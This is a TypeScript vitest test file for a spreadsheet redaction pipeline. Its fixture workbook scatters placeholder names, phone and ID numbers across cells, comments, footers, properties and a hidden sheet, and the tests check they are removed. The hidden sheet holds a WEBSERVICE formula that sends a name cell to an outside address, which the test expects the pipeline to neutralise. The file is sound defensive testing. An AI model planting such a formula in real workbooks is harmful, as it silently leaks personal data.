import { type CellValue, writeXlsx } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import { stipend } from '../../../pipelines/stipend/return.js'
import { cell, copyOf, read, sheetOf, textFile } from './copies.js'

const headings = stipend.columns.map(({ header }) => header.zh)
const persons = /张三|李四|王五|1380000\d{4}|99030119900101/

/** A return that a person's particulars are all over: labels, columns, comments, header and footer, properties, other sheets. */
const rows: CellValue[][] = [
  ['东城区2026年10月书记报酬'],
  ['填报单位：东城区　填报人：张三　联系电话：138 0000 1234', null, '负责人', '李四'],
  ['地区名称', ...headings, '书记姓名', '备注'],
  ['城关街道', 10, 19000, 0, 1800, 2000, 0, '张三', '问13800001234'],
  ['柳林镇', 10, 13900005678, 0, 1800, 2000, 0, '李四', '990301199001011238'],
  ['白马镇', '待核', 19000, 0, 1800, 2000, 0, null, 13800001235],
  ['审核：李四', null, null, '制表人：', '王五'],
]
const workbook = () =>
  writeXlsx({
    sheets: [
      {
        name: '报酬',
        rows,
        cells: new Map([
          ['5,1', { value: '待核', comment: { author: '王五', text: '王五:\n打 13800001234 问' } }],
          [
            '3,8',
            { value: '问13800001234', richText: [{ text: '问' }, { text: '13800001234', font: { bold: true } }] },
          ],
          ['3,1', { value: 10, formula: 'SUM(4,6)', formulaResult: 10 }],
          ['0,0', { value: '东城区2026年10月书记报酬', hyperlink: { target: 'mailto:zhangsan@example.org' } }],
        ]),
        headerFooter: { oddFooter: '&L制表人：王五 13800001234&R&P' },
      },
      {
        name: '通讯录',
        hidden: true,
        cells: new Map([['1,0', { value: 1, formula: 'WEBSERVICE("http://10.0.0.1/?"&B2)', formulaResult: 1 }]]),
        rows: [['序号', '姓名', '村'], [1, '张三', '李村'], [2, '李四', '王庄村'], [], ['电话', 13800001234]],
      },
    ],
    properties: { creator: '张三', lastModifiedBy: '李四', manager: '王五', custom: { 电话: '13800001234' } },
  })

describe('a copy that lies on our disk', () => {
  test('has no person in any part of it', async () => {
    const { bytes } = await copyOf({ name: '东城区2026年10月.xlsx', bytes: await workbook() })
    const { sheets, properties } = await read(bytes)
    const said = sheets.map(({ cells, ...sheet }) => [sheet, [...(cells ?? [])]])
    expect(persons.exec(JSON.stringify([said, properties]))?.[0]).toBeUndefined()
  })

  test('keeps everything else where it stood', async () => {
    const { bytes } = await copyOf({ name: '东城区2026年10月.xlsx', bytes: await workbook() })
    const all = await read(bytes)
    const sheet = sheetOf(all, '报酬')
    expect(sheet.rows[1]?.slice(0, 4)).toEqual(['填报单位：东城区　填报人：　联系电话：', null, '负责人', null])
    expect(sheet.rows[2]?.slice(-2)).toEqual(['书记姓名', '备注'])
    expect(sheet.rows.slice(3, 6).map((row) => row.slice(-2))).toEqual([
      // A name may stand beside the number: nothing of the cell is kept.
      [null, '***'],
      // Money may well have eleven digits.
      [null, '***'],
      [null, '***'],
    ])
    expect(sheet.rows[4]?.[2]).toBe(13_900_005_678)
    expect(sheet.rows[6]?.slice(0, 5)).toEqual(['审核：', null, null, '制表人：', null])
    expect(cell(sheet, 'B6')?.comment?.text).toBe('打 *** 问')
    // A formula of the sheet stays one; one that reaches out is left as its value.
    expect(cell(sheet, 'B4')?.formula).toBe('SUM(4,6)')
    expect(sheet.headerFooter?.oddFooter).toBe('&L制表人：&R&P')
    expect(sheetOf(all, '通讯录')).toMatchObject({ hidden: true })
    expect(sheetOf(all, '通讯录').rows[1]).toEqual([1, null, '李村'])
    expect(cell(sheetOf(all, '通讯录'), 'A2')?.formula).toBeUndefined()
  })

  test('nor does one of a text file', async () => {
    const text = rows.map((row) => row.map((value) => value ?? '').join(',')).join('\n')
    const { bytes } = await copyOf(textFile('东城区2026年10月.csv', text))
    const { sheets } = await read(bytes)
    const said = JSON.stringify(sheets.map(({ rows, cells }) => [rows, [...(cells ?? [])]]))
    expect(persons.exec(said)?.[0]).toBeUndefined()
    expect(sheetOf({ sheets }, '报表').rows[4]?.[2]).toBe(13_900_005_678)
  })
})
